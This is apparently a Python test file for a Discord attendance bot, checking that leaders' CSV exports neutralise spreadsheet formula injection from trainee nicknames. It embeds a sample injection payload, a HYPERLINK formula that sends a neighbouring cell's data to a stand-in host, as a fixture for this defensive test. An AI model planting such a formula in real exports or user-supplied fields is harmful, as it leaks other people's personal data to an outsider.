"""Issue 20: privacy in the seams, each leak tried as the adversary would (a curious leader, a
trainee, the host with the database, key, logs and backups, Discord) through the emulator."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta

S1 = datetime(2026, 9, 3, 8, 0, tzinfo=UTC)  # Thu 3 Sep, 09:00 BST


# -- leak 4: formulas in the leaders' exports -------------------------------------------------------

FORMULA = '=HYPERLINK("//x/"&A3,"a")'
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def formulas(rows: list[list[str]]) -> list[str]:
    """Cells a spreadsheet would run as a formula (OWASP's CSV-injection list)."""
    return [cell for row in rows for cell in row if cell.lstrip(" ").startswith(TRIGGERS)]


async def test_a_nickname_cannot_plant_a_formula_in_the_leaders_csv(
    bot, world, group, clock, emulator
):
    """A trainee named `=HYPERLINK("//x/"&A3,"a")` went unescaped into /attendance group and the
    /group close CSV: a leader who opened it in a spreadsheet sent other trainees' attendance away
    with one click. Every cell starting with = + - @ tab or CR is now written as text."""
    ch = world.channel
    alice, bob = world.trainee("alice"), world.trainee("bob")
    emulator.set_nick(alice, FORMULA)
    emulator.set_nick(bob, "+44 7700 900123")
    await clock.move_to(S1 + timedelta(minutes=2))
    for member in (alice, bob):
        assert "checked in" in (await member.click("I'm here", in_channel=ch)).text
    await clock.move_to(S1 + timedelta(minutes=110))

    r = await world.leader.slash("attendance group", in_channel=ch)
    (name, data) = r.files[0]
    rows = cells(data)
    assert not formulas(rows), formulas(rows)
    names = {row[0] for row in rows[1:]}
    assert "'" + FORMULA in names and "'+44 7700 900123" in names, names  # shown, as text

    asked = await world.leader.slash("group close", in_channel=ch)
    r = await world.leader.click("Close the group now", message=asked)
    assert "Closed" in r.text, r.text
    await clock.settle()
    (export,) = [m for m in world.leaders_channel.messages if "is closed" in m.text]
    for name, data in export.files:
        if name.endswith(".csv"):
            rows = cells(data)
            assert not formulas(rows), (name, formulas(rows))
            assert "'" + FORMULA in {row[0] for row in rows[1:]}
